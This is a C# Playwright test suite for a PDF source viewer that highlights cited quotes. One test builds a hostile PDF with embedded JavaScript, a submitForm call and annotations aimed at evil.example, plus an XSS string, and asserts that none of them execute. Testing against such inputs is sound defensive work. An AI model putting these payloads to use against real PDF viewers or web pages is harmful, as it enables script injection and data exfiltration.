using System.Text;
using KnowledgeAssistant.Extraction;
using Microsoft.Playwright;
using static KnowledgeAssistant.Testing.HandmadePdf;

namespace KnowledgeAssistant.EndToEnd.Tests;

/// <summary>The printed page beside the answer: the marks lie on the words of the quote, and on nothing else.</summary>
public sealed class PdfPageTests(Browser browser)
{
    private const string A4 = "/MediaBox [0 0 595 842]";
    private const int QuotesEach = 5;

    // What pdf.js itself finds under the marks: the words of its text layer of which the marks cover most, and how much of the
    // emptiest mark lies on them. One font of the samples draws its spaces as a control character.
    private const string Marked =
        """
        () => {
            const shared = (a, b) => Math.max(0, Math.min(a.right, b.right) - Math.max(a.left, b.left)) * Math.max(0, Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top));
            const area = box => box.width * box.height;
            const covered = [];
            const marks = [];
            for (const page of document.querySelectorAll(".pdf-page:has(.pdf-mark)")) {
                const own = [...page.querySelectorAll(".pdf-mark")].map(mark => mark.getBoundingClientRect());
                const walker = document.createTreeWalker(page.querySelector(".pdf-text"), NodeFilter.SHOW_TEXT);
                for (let node; node = walker.nextNode();)
                    for (const { 0: text, index } of node.data.matchAll(/[^\s\x01]+/g)) {
                        const range = document.createRange();
                        range.setStart(node, index);
                        range.setEnd(node, index + text.length);
                        const box = range.getBoundingClientRect();
                        if (own.reduce((sum, mark) => sum + shared(mark, box), 0) > area(box) / 2) covered.push({ text, box });
                    }
                marks.push(...own);
            }
            return {
                words: covered.map(word => word.text).join(" "),
                fullness: Math.min(...marks.map(mark => covered.reduce((sum, word) => sum + shared(mark, word.box), 0) / area(mark))),
            };
        }
        """;

    [Fact]
    public async Task The_marks_cover_the_words_of_the_quote_and_nothing_else()
    {
        await using var world = await AskingWorld.StartAsync(browser, null);
        (string Name, byte[] Bytes)[] files =
        [
            ("Security.pdf", await SampleAsync("Information security policy.pdf")),
            ("고객지원.pdf", await SampleAsync("고객지원 처리 절차.pdf")),
            ("columns.pdf", Page(A4, Column(60) + Column(320))),
            ("turned.pdf", Page(A4 + " /Rotate 90", Column(60) + "0 1 -1 0 560 400 cm " + Column(0))),
            ("upside.pdf", Page(A4 + " /Rotate 180", Column(100))),
            ("cropped.pdf", Page("/MediaBox [-100 -50 700 900] /CropBox [20 100 500 780]", Column(80))),
            ("cropped and turned.pdf", Page("/MediaBox [-100 -50 700 900] /CropBox [20 100 500 780] /Rotate 270", Column(80))),
        ];
        await world.AddFilesAsync(world.Handbook, files);
        var quotes = new List<(Collections.DocumentVersion Version, string Name, int Start, int Length)>();
        var texts = new List<string>();
        foreach (var (name, _) in files)
        {
            var (version, text, blocks) = await world.ReadAsync(name);
            foreach (var (start, length) in Quotes(text, blocks))
            {
                quotes.Add((version, name, start, length));
                texts.Add(text.Substring(start, length));
            }
        }

        await world.Visitor.OpenAsync(await world.AddAnswerAsync("The documents say so.", [.. quotes]));
        var page = world.Visitor.Page;
        for (var i = 0; i < quotes.Count; i++)
        {
            await Expect(page.Locator(".source-count")).ToHaveTextAsync($"Citation {i + 1} of {quotes.Count}");
            await Expect(page.GetByRole(AriaRole.Img, new() { Name = "Cited words: " + texts[i] })).ToHaveCountAsync(1);
            await Expect(page.Locator(".pdf-mark").First).ToBeInViewportAsync();

            var marked = await page.EvaluateAsync<System.Text.Json.JsonElement>(Marked);
            Assert.Equal((quotes[i].Name, Squeezed(texts[i])), (quotes[i].Name, Squeezed(marked.GetProperty("words").GetString()!)));
            Assert.InRange(marked.GetProperty("fullness").GetDouble(), 0.55, 1.3);

            if (i < quotes.Count - 1)
                await page.Locator("[data-key=next]").ClickAsync();
        }
    }

    // A visitor fails the test by herself when a dialog opens or another host is asked.
    [Fact]
    public async Task What_a_PDF_wants_to_run_or_to_fetch_does_not_happen()
    {
        await using var world = await AskingWorld.StartAsync(browser, null);
        const string Script = "/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.example/'\\);)";
        var hostile = Page(
            A4 + $" /AA << /O << {Script} >> >> /Annots [6 0 R 7 0 R 8 0 R]",
            Column(72) + Lines(72, 300, "<img src=x onerror=alert\\(2\\)><script>alert\\(3\\)</script> is only text."),
            $"/OpenAction << {Script} >> /AcroForm << /Fields [7 0 R] >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.example/link) >> >>",
            $"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Kim) /Rect [72 200 300 220] /AA << /Fo << {Script} >> >> >>",
            "<< /Type /Annot /Subtype /Screen /Rect [72 400 300 500] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://evil.example/film.mp4) >> >> >> >>");
        await world.AddFilesAsync(world.Handbook, ("hostile.pdf", hostile));
        var (version, text, _) = await world.ReadAsync("hostile.pdf");
        var page = world.Visitor.Page;

        await world.Visitor.OpenAsync(await world.AddAnswerAsync("It does.", (version, "hostile.pdf", text.IndexOf("Books", StringComparison.Ordinal), 30)));
        await Expect(page.Locator(".pdf-mark").First).ToBeInViewportAsync();
        await page.Locator(".pdf-page").ClickAsync(new() { Position = new() { X = 120, Y = 300 } });

        await Expect(page.Locator(".pdf-text")).ToContainTextAsync("<script>alert(3)</script>");
        Assert.Equal(0, await page.Locator(".source-pages :is(a, input, img, script, iframe, video, [onerror])").CountAsync());
        Assert.Single(page.Context.Pages);
    }

    [Fact]
    public async Task A_page_that_cannot_be_drawn_gives_way_to_its_text_and_the_choice_of_text_is_remembered()
    {
        await using var world = await AskingWorld.StartAsync(browser, null);
        await world.AddFilesAsync(world.Handbook, ("whole.pdf", Page(A4, Column(72))), ("missing.pdf", Page(A4, Column(73))), ("broken.pdf", Page(A4, Column(74))));
        var (whole, missing, broken) = (await world.ReadAsync("whole.pdf"), await world.ReadAsync("missing.pdf"), await world.ReadAsync("broken.pdf"));
        var files = world.App.Get<Collections.DocumentFiles>();
        await File.WriteAllBytesAsync(files.PathOf(broken.Version.ContentHash), new byte[5000], world.App.Cancel);
        var (page, visitor) = (world.Visitor.Page, world.Visitor);
        await visitor.OpenAsync(await world.AddAnswerAsync("It does.", (whole.Version, "whole.pdf", 0, 20), (broken.Version, "broken.pdf", 0, 20), (missing.Version, "missing.pdf", 0, 20)));
        await Expect(page.Locator(".pdf-mark").First).ToBeInViewportAsync();
        Assert.True(await page.EvaluateAsync<bool>("document.querySelector('.pdf-page canvas').width > 0"));

        await page.Locator(".source").FocusAsync();
        await page.Keyboard.PressAsync("ArrowRight");
        await Expect(page.Locator(".source-note")).ToContainTextAsync("The page cannot be shown.");
        await Expect(page.Locator(".source mark.marker")).ToBeInViewportAsync();
        File.Delete(files.PathOf(missing.Version.ContentHash));
        await page.Keyboard.PressAsync("j");
        await Expect(page.Locator(".source-note")).ToContainTextAsync("The original file is missing.");
        await Expect(page.GetByLabel("Download")).ToHaveCountAsync(0);

        await page.Keyboard.PressAsync("k");
        await Expect(page.Locator(".source-count")).ToHaveTextAsync("Citation 2 of 3");
        await page.Keyboard.PressAsync("k");
        await Expect(page.Locator(".source-count")).ToHaveTextAsync("Citation 1 of 3");
        await page.GetByRole(AriaRole.Button, new() { Name = "Text", Exact = true }).ClickAsync();
        await Expect(page.Locator(".source mark.marker")).ToBeInViewportAsync();
        await page.ReloadAsync();
        await visitor.ConnectedAsync();
        await Expect(page.GetByRole(AriaRole.Button, new() { Name = "Text", Exact = true })).ToHaveAttributeAsync("aria-pressed", "true");
        await Expect(page.Locator(".source mark.marker")).ToBeInViewportAsync();
    }

    [Fact]
    public async Task On_a_phone_the_source_is_a_sheet_that_a_finger_turns_the_pages_of_and_pulls_away()
    {
        await using var world = await AskingWorld.StartAsync(browser, null);
        await world.AddFilesAsync(world.Handbook, ("pages.pdf", TestDocuments.Pdf("The first page says one.", "The second page says two.", "The third page says three.")));
        var (version, text, _) = await world.ReadAsync("pages.pdf");
        var address = await world.AddAnswerAsync("The second page says two.", (version, "pages.pdf", text.IndexOf("The second", StringComparison.Ordinal), 25));
        await using var visitor = await browser.SignInAsync(world.App, "minji@example.com", new() { ViewportSize = new() { Width = 320, Height = 640 }, IsMobile = true, HasTouch = true });
        var page = visitor.Page;
        await visitor.OpenAsync(address);
        await Expect(page.Locator(".pdf-mark")).ToBeInViewportAsync();
        await Expect(page.Locator(".claim.marker")).ToBeInViewportAsync();
        var box = (await page.Locator(".source").BoundingBoxAsync())!;
        Assert.Equal((0, 320, 640), (box.X, box.Width, Math.Round(box.Y + box.Height)));
        Assert.InRange(box.Height / 640, 0.77, 0.79);
        foreach (var target in await page.Locator(".source :is(a, button)").AllAsync())
        {
            var size = (await target.BoundingBoxAsync())!;
            Assert.True(Math.Min(size.Width, size.Height) >= 43.9, $"{await target.InnerTextAsync()} {await target.GetAttributeAsync("aria-label")} is {size.Width} by {size.Height}");
        }

        await page.GetByRole(AriaRole.Button, new() { Name = "Next page" }).TapAsync();
        await Expect(page.Locator(".pdf-bar output")).ToHaveTextAsync("Page 3 of 3");
        await Expect(page.Locator(".pdf-page").Nth(2).Locator(".pdf-text")).ToContainTextAsync("The third page says three.");
        await Expect(page.GetByRole(AriaRole.Button, new() { Name = "Next page" })).ToBeDisabledAsync();

        await PullAsync(page, box.Y + 20, 12);
        await Expect(page.Locator(".source")).ToBeVisibleAsync();
        await PullAsync(page, box.Y + 20, 300);
        await Expect(page.Locator(".source")).ToHaveCountAsync(0);
    }

    private static async Task PullAsync(IPage page, double y, double by)
    {
        var touch = await page.Context.NewCDPSessionAsync(page);
        Task SendAsync(string type, params double[] places) => touch.SendAsync("Input.dispatchTouchEvent", new() { ["type"] = type, ["touchPoints"] = places.Select(place => new { x = 160, y = place }).ToArray() });
        await SendAsync("touchStart", y);
        foreach (var part in Enumerable.Range(1, 6))
            await SendAsync("touchMove", y + by * part / 6);
        await SendAsync("touchEnd");
    }

    private static IEnumerable<(int Start, int Length)> Quotes(string text, IReadOnlyList<PlacedBlock> blocks)
    {
        var written = blocks.Where(block => block.Words?.Count > 4).ToList();
        for (var i = 0; i < Math.Min(QuotesEach, written.Count); i++)
        {
            // Whole blocks and parts of them in turn, from the beginning of the document to its end.
            var block = written[i * (written.Count - 1) / Math.Max(1, Math.Min(QuotesEach, written.Count) - 1)];
            var (first, last) = i % 2 == 0 ? (block.Words![0], block.Words[^1]) : (block.Words![1], block.Words[^2]);
            yield return (block.Start + first.Start, last.Start + last.Length - first.Start);
        }
    }

    private static string Column(int x) => Lines(x, 700,
        "The reading room opens at nine in the", "morning and closes at six, except on", "Thursdays, when it stays open until nine.") +
        Lines(x, 620, "Books are lent for four weeks. A loan is", "renewed twice unless another reader waits.");

    // Hyphens at line ends are not in the reading text; everything else is, but for white space.
    private static string Squeezed(string text) => string.Concat(text.Normalize(NormalizationForm.FormKC).Where(c => !char.IsWhiteSpace(c) && c is not ('|' or '-')));

    private static Task<byte[]> SampleAsync(string name) => File.ReadAllBytesAsync(Path.Combine(AppContext.BaseDirectory, "Collections", "sample", name), TestContext.Current.CancellationToken);
}
